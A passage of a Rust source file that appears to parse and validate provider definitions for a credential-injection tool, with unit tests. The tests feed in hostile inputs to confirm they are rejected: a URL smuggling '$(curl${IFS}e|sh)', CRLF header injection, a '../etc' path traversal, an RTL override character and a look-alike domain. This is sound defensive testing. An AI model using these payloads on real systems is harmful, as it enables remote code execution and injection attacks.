        // the reference writes `"env_var": null` etc.; absent and null mean the same there,
        // except for header_prefix where null means "no prefix"
        o.retain(|k, v| k == "header_prefix" || !v.is_null());
    }
    if let Some(Value::Object(b)) = obj.get_mut("browser") {
        // The reference's block: `auth_cookies` say when the user is
        // signed in, `extract` reads more; we capture and send both.
        // `validate_url` (unused there) and `note` are informational.
        b.remove("validate_url");
        b.remove("note");
        if let Some(Value::Array(auth)) = b.remove("auth_cookies") {
            let mut cookies = match b.remove("cookies") {
                Some(Value::Array(c)) => c,
                _ => Vec::new(),
            };
            let extracted: Vec<Value> = match b.get("extract") {
                Some(Value::Array(e)) => {
                    e.iter().filter_map(|x| x.get("cookie").cloned()).collect()
                }
                _ => Vec::new(),
            };
            for c in auth.into_iter().chain(extracted) {
                if !cookies.contains(&c) {
                    cookies.push(c);
                }
            }
            b.insert("cookies".into(), Value::Array(cookies));
        }
        if let Some(Value::Array(e)) = b.get_mut("extract") {
            for x in e {
                if let Value::Object(x) = x
                    && matches!(x.get("prefix"), Some(Value::Null))
                {
                    x.remove("prefix");
                }
            }
        }
        if matches!(b.get("ttl_from_cookie"), Some(Value::Null)) {
            b.remove("ttl_from_cookie");
        }
    }
    if matches!(obj.get("docs_url"), Some(Value::Null)) {
        obj.remove("docs_url");
    }
    if let Some(Value::String(s)) = obj.get("api_url").cloned() {
        obj.insert("api_url".into(), Value::Array(vec![Value::String(s)]));
    }
    if obj.get("flow").is_none() {
        let flow = match obj.get("auth_type").and_then(Value::as_str) {
            Some("api_key") => Some("api_key"),
            Some("oauth2") => Some("pkce"),
            Some("browser") => Some("browser"),
            _ => None,
        };
        if let Some(f) = flow {
            obj.insert("flow".into(), Value::String(f.into()));
        }
    }
    obj.insert("export".into(), Value::Object(export));
    Ok(obj)
}

/// Removes `//` and `/* */` comments outside strings.
pub fn strip_comments(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    let mut in_string = false;
    while let Some(c) = chars.next() {
        if in_string {
            out.push(c);
            if c == '\\' {
                if let Some(n) = chars.next() {
                    out.push(n);
                }
            } else if c == '"' {
                in_string = false;
            }
            continue;
        }
        match (c, chars.peek()) {
            ('"', _) => {
                in_string = true;
                out.push(c);
            }
            ('/', Some('/')) => {
                for n in chars.by_ref() {
                    if n == '\n' {
                        out.push('\n');
                        break;
                    }
                }
            }
            ('/', Some('*')) => {
                chars.next();
                let mut prev = ' ';
                for n in chars.by_ref() {
                    if n == '\n' {
                        out.push('\n');
                    }
                    if prev == '*' && n == '/' {
                        break;
                    }
                    prev = n;
                }
                out.push(' ');
            }
            _ => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const OPENAI: &str = r#"{
      // a comment
      "name": "openai", "display_name": "OpenAI", "type": "llm",
      "auth_type": "api_key", "flow": "api_key",
      "api_url": ["api.openai.com"], /* block */
      "api_key": {"header_name": "Authorization", "header_prefix": "Bearer", "key_pattern": "^sk-.+$"},
      "export": {"OPENAI_API_KEY": "api_key"}
    }"#;

    #[test]
    fn parses_our_form() {
        let d = ProviderDef::parse(OPENAI).unwrap();
        assert_eq!(d.name, "openai");
        let inj = d.injection().unwrap();
        assert_eq!(
            (inj.name.as_str(), inj.prefix.as_str()),
            ("Authorization", "Bearer ")
        );
        assert_eq!(d.export["OPENAI_API_KEY"], ExportRole::ApiKey);
    }

    #[test]
    fn canonical_json_roundtrips() {
        let d = ProviderDef::parse(OPENAI).unwrap();
        assert_eq!(ProviderDef::parse(&d.to_json()).unwrap(), d);
    }

    #[test]
    fn parses_the_reference_form() {
        let text = r#"// reference file
        {"schema_version": 1, "name": "gh", "display_name": "GH", "type": "app", "auth_type": "oauth2", "flow": "pkce",
         "logo": "x", "api_url": "https://api.github.com",
         "oauth": {"base_url": "https://github.com", "authorization_url": "{base_url}/login/oauth/authorize",
                   "token_url": "{base_url}/login/oauth/access_token", "revocation_url": null, "pkce": true,
                   "supports_dcr": false, "authorization_method": "basic", "scopes": ["repo"]},
         "api_key": null, "docs_url": null,
         "GH_TOKEN": "ACCESS_TOKEN"}"#;
        let d = ProviderDef::parse(text).unwrap();
        assert_eq!(d.export["GH_TOKEN"], ExportRole::AccessToken);
        assert_eq!(d.oauth.as_ref().unwrap().token_auth, TokenAuth::Basic);
        assert_eq!(
            d.endpoint(d.oauth.as_ref().unwrap().token_url.as_str(), None),
            "https://github.com/login/oauth/access_token"
        );
        assert_eq!(d.rules.len(), 1);
    }

    #[test]
    fn null_prefix_means_bare_key() {
        let t = OPENAI.replace(r#""header_prefix": "Bearer""#, r#""header_prefix": null"#);
        assert_eq!(
            ProviderDef::parse(&t).unwrap().injection().unwrap().prefix,
            ""
        );
        let t = OPENAI.replace(r#""header_prefix": "Bearer", "#, "");
        assert_eq!(
            ProviderDef::parse(&t).unwrap().injection().unwrap().prefix,
            "Bearer "
        );
    }

    fn err(text: &str) -> String {
        ProviderDef::parse(text).unwrap_err().message
    }

    #[test]
    fn an_mcp_endpoint_must_be_covered_by_api_url() {
        let with = |api_url: &str, mcp: &str| {
            OPENAI
                .replace(r#"["api.openai.com"]"#, api_url)
                .replace(r#""export""#, &format!(r#""mcp": {mcp}, "export""#))
        };
        let d = ProviderDef::parse(&with(
            r#"["huggingface.co/mcp"]"#,
            r#"{"url": "https://huggingface.co/mcp?login", "transport": "streamable-http"}"#,
        ))
        .unwrap();
        let m = d.mcp.as_ref().unwrap();
        assert_eq!(m.transport.map(McpTransport::flag), Some("http"));
        assert_eq!(ProviderDef::parse(&d.to_json()).unwrap(), d);
        // A whole-host rule covers any path on it.
        ProviderDef::parse(&with(
            r#"["mcp.acme.test"]"#,
            r#"{"url": "https://mcp.acme.test/sse", "transport": "sse"}"#,
        ))
        .unwrap();
        for (api_url, mcp, says) in [
            (
                r#"["huggingface.co/mcp"]"#,
                r#"{"url": "https://huggingface.co/api"}"#,
                "not covered",
            ),
            (
                r#"["huggingface.co/mcp"]"#,
                r#"{"url": "https://hf.co/mcp"}"#,
                "not covered",
            ),
            (
                r#"["huggingface.co"]"#,
                r#"{"url": "http://huggingface.co/mcp"}"#,
                "https://",
            ),
            (
                r#"["huggingface.co"]"#,
                r#"{"url": "https://u:p@huggingface.co/mcp"}"#,
                "not a valid URL",
            ),
            (
                r#"["huggingface.co"]"#,
                r#"{"url": "https://huggingface.co:8443/mcp"}"#,
                "not covered",
            ),
            (
                r#"["huggingface.co"]"#,
                r#"{"url": "https://huggingface.co/", "transport": "websocket"}"#,
                "websocket",
            ),
            (
                r#"["huggingface.co"]"#,
                r#"{"url": "https://huggingface.co/mcp?x=$(curl${IFS}e|sh)"}"#,
                "may not contain `$`",
            ),
            (
                r#"["huggingface.co"]"#,
                r#"{"url": "https://huggingface.co/m;cp"}"#,
                "may not contain `;`",
            ),
            (
                r#"["huggingface.co"]"#,
                r#"{"url": "https://huggingface.co/m'cp"}"#,
                "may not contain",
            ),
            (
                r#"["huggingface.co"]"#,
                "{\"url\": \"https://huggingface.co/mcp\u{202e}\"}",
                "may not contain",
            ),
        ] {
            let e = err(&with(api_url, mcp));
            assert!(e.contains(says), "{mcp}: {e}");
        }
    }

    #[test]
    fn unknown_fields_are_named() {
        let t = OPENAI.replace("\"api_url\"", "\"api_ulr\"");
        assert!(err(&t).contains("api_ulr"), "{}", err(&t));
    }

    #[test]
    fn regex_hosts_are_rejected() {
        let t = OPENAI.replace(r#"["api.openai.com"]"#, r#"["regex:.*openai.*"]"#);
        assert!(err(&t).contains("regular expressions"));
    }

    #[test]
    fn header_injection_in_definitions_is_rejected() {
        let t = OPENAI.replace(
            r#""header_name": "Authorization""#,
            r#""header_name": "X-Key\r\nEvil: 1""#,
        );
        assert!(err(&t).contains("header_name"));
        let t = OPENAI.replace(
            r#""header_prefix": "Bearer""#,
            r#""header_prefix": "Bearer\r\nX: y""#,
        );
        assert!(err(&t).contains("header_prefix"));
        let t = OPENAI.replace(
            r#""header_name": "Authorization""#,
            r#""header_name": "Host""#,
        );
        assert!(err(&t).contains("cannot carry"));
    }

    #[test]
    fn endpoints_must_be_https() {
        let t = r#"{"name":"x","auth_type":"oauth2","flow":"pkce","api_url":["api.x.com"],
                   "oauth":{"authorization_url":"http://x.com/auth","token_url":"https://x.com/token"}}"#;
        assert!(err(t).contains("https"));
    }

    #[test]
    fn export_roles_must_fit_the_auth_type() {
        let t = OPENAI.replace(
            r#""OPENAI_API_KEY": "api_key""#,
            r#""OPENAI_API_KEY": "access_token""#,
        );
        assert!(err(&t).contains("does not store"));
    }

    #[test]
    fn flow_must_fit_auth_type_and_bad_names_are_refused() {
        let t = OPENAI.replace(r#""flow": "api_key""#, r#""flow": "pkce""#);
        assert!(err(&t).contains("does not fit"));
        let t = OPENAI.replace(r#""name": "openai""#, r#""name": "../etc""#);
        assert!(err(&t).contains("not allowed"));
    }

    #[test]
    fn a_placeholder_shape_must_fit_the_key_pattern() {
        let with = |shape: &str| OPENAI.replacen('{', &format!("{{\"placeholder\": {shape},"), 1);
        assert!(ProviderDef::parse(&with(r#"{"prefix": "sk-", "length": 51}"#)).is_ok());
        assert!(err(&with(r#"{"prefix": "pk-", "length": 51}"#)).contains("key_pattern"));
        assert!(err(&with(r#"{"prefix": "sk-", "length": 10}"#)).contains("out of range"));
        assert!(err(&with(r#"{"prefix": "s k", "length": 51}"#)).contains("letters, digits"));
        assert!(err(&with(r#"{"prefix": "sk-", "length": 51, "x": 1}"#)).contains("x"));
    }

    #[test]
    fn bad_key_pattern_is_reported() {
        let t = OPENAI.replace("^sk-.+$", "^sk-(");
        assert!(err(&t).contains("key_pattern"));
    }

    #[test]
    fn the_reference_browser_block_is_read_and_checked() {
        let t = r#"{"name":"li","auth_type":"browser","flow":"browser","api_url":"www.linkedin.com",
          "browser":{"auth_cookies":["li_at"],"domains":[".linkedin.com","linkedin.com"],
                     "entry_url":"https://www.linkedin.com/login","extra_headers":{},"validate_url":null,
                     "extract":[{"cookie":"JSESSIONID","header":"csrf-token","prefix":null}],
                     "ttl_from_cookie":"li_at","ttl_hours":24},
          "export":{"env":{"li_at":"LI_AT"}}}"#;
        let d = ProviderDef::parse(t).unwrap();
        let b = d.browser.as_ref().unwrap();
        assert_eq!(b.cookies, ["li_at", "JSESSIONID"]);
        assert!(b.covers_domain(".www.linkedin.com") && b.covers_domain("linkedin.com"));
        assert!(!b.covers_domain("evil-linkedin.com") && !b.covers_domain("com"));
        assert_eq!(d.injection().unwrap().name, "Cookie");
        assert_eq!(ProviderDef::parse(&d.to_json()).unwrap(), d);
        for (from, to, why) in [
            (
                r#""header":"csrf-token""#,
                r#""header":"Cookie""#,
                "cannot be sent",
            ),
            (
                r#""header":"csrf-token""#,
                r#""header":"Host""#,
                "cannot be sent",
            ),
            (
                r#""https://www.linkedin.com/login""#,
                r#""http://x.test/""#,
                "https",
            ),
            (
                r#""ttl_from_cookie":"li_at""#,
                r#""ttl_from_cookie":"nope""#,
                "nope",
            ),
            (r#""ttl_hours":24"#, r#""ttl_hours":0"#, "ttl_hours"),
            (
                r#""auth_cookies":["li_at"]"#,
                r#""auth_cookies":["li at"]"#,
                "cookie name",
            ),
            (
                r#""extra_headers":{}"#,
                r#""extra_headers":{"x-a":"b\r\nc: d"}"#,
                "visible",
            ),
            (r#""ttl_hours":24}"#, r#""ttl_hours":24,"nope":1}"#, "nope"),
        ] {
            let bad = t.replace(from, to);
            assert_ne!(bad, t, "{from}");
            assert!(err(&bad).contains(why), "{to}: {}", err(&bad));
        }
        let no_block =
            r#"{"name":"b","auth_type":"browser","flow":"browser","api_url":["b.test"]}"#;
        assert!(err(no_block).contains("browser"));
    }

    #[test]
    fn comments_inside_strings_survive() {
        assert_eq!(
            strip_comments(r#"{"a": "http://x/*y*/"} // z"#),
            "{\"a\": \"http://x/*y*/\"} "
        );
    }
}
